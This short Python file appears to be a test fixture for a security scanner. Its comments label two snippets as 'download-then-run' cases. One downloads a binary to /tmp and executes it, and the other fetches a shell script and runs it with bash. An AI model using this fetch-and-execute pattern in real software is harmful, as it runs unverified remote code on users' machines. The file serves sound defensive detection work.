import os
import subprocess
import urllib.request
import requests

urllib.request.urlretrieve("https://files.example.com/tool", "/tmp/tool.bin")
# expect: download-then-run
subprocess.run(["/tmp/tool.bin", "--fast"])

with open("helper.sh", "wb") as out:
    out.write(requests.get("https://files.example.com/helper").content)
# expect: download-then-run
os.system("bash helper.sh")
